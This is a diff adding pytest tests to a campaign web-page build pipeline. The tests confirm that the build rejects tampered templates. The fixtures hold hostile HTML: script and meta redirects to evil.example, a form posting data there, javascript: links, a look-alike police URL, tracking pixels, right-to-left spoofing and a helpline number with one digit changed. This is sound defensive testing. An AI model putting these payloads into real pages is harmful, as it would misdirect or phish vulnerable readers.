@@ -357,3 +357,100 @@ def test_list_names_the_pages_a_build_would_make(capsys):
     assert "1 web page(s)" in out.err
     assert main(["list", str(DEFAULT_CAMPAIGN), "--only", "poster", "--language", "ur"]) == 0
     assert "web/" not in capsys.readouterr().out
+
+
+# The attack found on the page (a designer's edit): a wrong helpline digit, a link whose
+# host is what follows '@', and a look-alike of the force's site in the text.
+WRONG_DIGIT = ('<p class="number"><bdi dir="ltr">{{ s.phone | tel }}</bdi></p>',
+               '<p class="number"><bdi dir="ltr"><a href="tel:{{ s.phone | replace(\' \', \'\') | replace(\'0300\', '
+               '\'0399\') }}">{{ s.phone | replace(\'0300\',\'0399\') }}</a></bdi></p>')
+ELSEWHERE = ('<bdi dir="ltr">{{ page.label | web }}</bdi></p>',
+             '<bdi dir="ltr"><a href="https://www.northyorkshire.police.uk@evil.example/stalking">{{ page.label }}</a>'
+             '</bdi> or northyorkshire-police.uk/help</p>')
+
+
+@pytest.mark.parametrize("edit, refused", [
+    (WRONG_DIGIT, ["'tel:08088020399'", "'0808 802 0399'"]),
+    (ELSEWHERE, ["'https://www.northyorkshire.police.uk@evil.example/stalking'", "'evil.example'",
+                 "'northyorkshire-police.uk/help'"]),
+], ids=["wrong-digit", "elsewhere"])
+def test_a_template_that_links_or_prints_elsewhere_stops_the_page(tmp_path, capsys, edit, refused):
+    out = tmp_path / "out"
+    assert main(["build", str(DEFAULT_CAMPAIGN), "--out", str(out), "--only", "web-page", "--language", "none"]) == 0
+    before = {name: (out / SLUG / "web" / name).read_bytes() for name in ("index.html", "index.txt")}
+    capsys.readouterr()
+    copy = layouts_copy(tmp_path, {"web-page.html": edit})
+    assert main(["build", str(DEFAULT_CAMPAIGN), "--layouts", str(copy), "--out", str(out), "--only", "web-page",
+                 "--language", "none"]) == 1
+    err = capsys.readouterr().err
+    assert "web/index.html" in err and "layouts/web-page.html" in err
+    for what in refused:
+        assert what in err, (what, err)
+    # The earlier page and its text stay, listed as they were.
+    assert {name: (out / SLUG / "web" / name).read_bytes() for name in before} == before
+    manifest = json.loads((out / SLUG / "manifest.json").read_text())
+    listed = {e["path"]: e["sha256"] for e in manifest["outputs"]}
+    assert listed["web/index.html"] == hashlib.sha256(before["index.html"]).hexdigest()
+
+
+@pytest.fixture(scope="module")
+def made():
+    """The default campaign's page as made, to add to."""
+    from pipeline.webpage import make
+
+    page = plan_pages(load_campaigns([DEFAULT_CAMPAIGN]), load_layouts())[0]
+    return page, make(page)[0].decode()
+
+
+def test_the_real_pages_pass_the_check(site):
+    from pipeline.webpage import check_made, plain_text
+
+    for page in plan_pages(load_campaigns([DEFAULT_CAMPAIGN, PHONE_SCAMS]), load_layouts()):
+        html = (site / page.source.slug / page.output).read_text(encoding="utf-8")
+        assert plain_text(html) == (site / page.source.slug / page.text_output).read_text(encoding="utf-8")
+        images = set(re.findall(r'src="(data:[^"]+)"', html))  # the logo (phone-scams)
+        assert check_made(page, html, plain_text(html), images) == [], page.output
+
+
+@pytest.mark.parametrize("added, check, said", [
+    ('<script>location = "https://evil.example"</script>', "markup", "<script>"),
+    ('<p onclick="x()">Call us</p>', "markup", "onclick"),
+    ('<iframe src="https://evil.example"></iframe>', "markup", "<iframe>"),
+    ('<form action="https://evil.example/post" method="post"><input name="n"></form>', "markup", "<form>"),
+    ('<meta http-equiv="refresh" content="0; url=https://evil.example">', "markup", "http-equiv"),
+    ('<bdo dir="rtl">0030 208 8080</bdo>', "markup", "<bdo>"),
+    ('<svg><a href="https://evil.example"><text>Help</text></a></svg>', "markup", "<svg>"),
+    ('<a href="javascript:alert(1)">Help</a>', "links", "javascript:"),
+    ('<a href="jav&#x09;ascript:alert(1)">Help</a>', "links", "ascript:alert"),
+    ('<a href="//evil.example/help">Help</a>', "links", "//evil.example"),
+    ('<a href="https://www.northyorkshire.police.uk.evil.example/">Help</a>', "links", "evil.example"),
+    ('<a href="tel:08088020399,1">Help</a>', "links", "tel:08088020399,1"),
+    ('<a href="tel:999">101</a>', "links", "'101' as a link to 'tel:999'"),
+    ('<a href="mailto:info@paladinservice.co.uk?bcc=x@evil.example">info@paladinservice.co.uk</a>', "links", "bcc"),
+    ('<a href="mailto:help@evil.example">help@evil.example</a>', "links", "help@evil.example"),
+    ('<img src="https://evil.example/pixel.png" alt="">', "links", "pixel.png"),
+    ('<img src="data:image/png;base64,iVBORw0KGgo=" alt="">', "links", "data:image/png"),
+    ('<img srcset="https://evil.example/a.png 2x" alt="">', "links", "srcset"),
+    ('<p style="background: url(https://evil.example/t.png)">x</p>', "links", "evil.example/t.png"),
+    ('<style>@import "https://evil.example/x.css";</style>', "links", "@import"),
+    ('<style>.number { unicode-bidi: bidi-override; direction: rtl }</style>', "links", "bidi-override"),
+    ('<style>.note::after { content: "Or call 0808 802 0399" }</style>', "numbers", "0808 802 0399"),
+    ('<style>.note::after { content: "\\30 808 802 0399" }</style>', "numbers", "0808 802 0399"),
+    ('<ol start="8088020399"><li>Call</li></ol>', "numbers", "8088020399"),
+    ('<style>ol { counter-reset: list-item 8088020399 }</style>', "numbers", "8088020399"),
+    ('<p title="Helpline 0808 802 0399">Help</p>', "numbers", "0808 802 0399"),
+    ('<abbr title="Visit evil.com">Help</abbr>', "addresses", "evil.com"),
+    ('<span data-web-only>0808 802 0399</span>', "numbers", "0808 802 0399"),
+    ('<p>0808 802 <b>0399</b></p>', "numbers", "0808 802 0399"),
+    ('<p>Call \u202e0030 208 8080</p>', "text", "U+202E"),
+], ids=lambda v: v if isinstance(v, str) and len(v) < 12 else None)
+def test_the_check_refuses_what_the_page_may_not_have(made, added, check, said):
+    from pipeline.webpage import check_made, plain_text
+
+    page, html = made
+    assert check_made(page, html, plain_text(html), set()) == []
+    edited = html.replace("</main>", added + "</main>", 1)
+    problems = check_made(page, edited, plain_text(edited), set())
+    assert any(p.check == check and said in p.what for p in problems), problems
+    assert all(p.level == "error" and p.file == "web/index.html" and "layouts/web-page.html" in p.what
+               for p in problems)
